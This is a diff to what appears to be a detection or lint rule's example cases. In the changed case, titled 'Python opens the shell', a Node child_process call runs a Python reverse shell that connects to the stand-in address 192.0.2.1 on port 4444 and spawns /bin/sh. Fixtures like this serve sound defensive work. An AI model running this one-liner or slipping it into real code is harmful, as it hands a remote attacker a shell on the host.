@@ -64,7 +64,7 @@ export default defineRule({
       },
       {
         title: 'Python opens the shell',
-        code: `require('child_process').exec('python3 -c "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"');`,
+        code: `require('child_process').spawn('python3', ['-c', "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"]);`,
       },
       {
         title: 'who it is leaves as a host name',
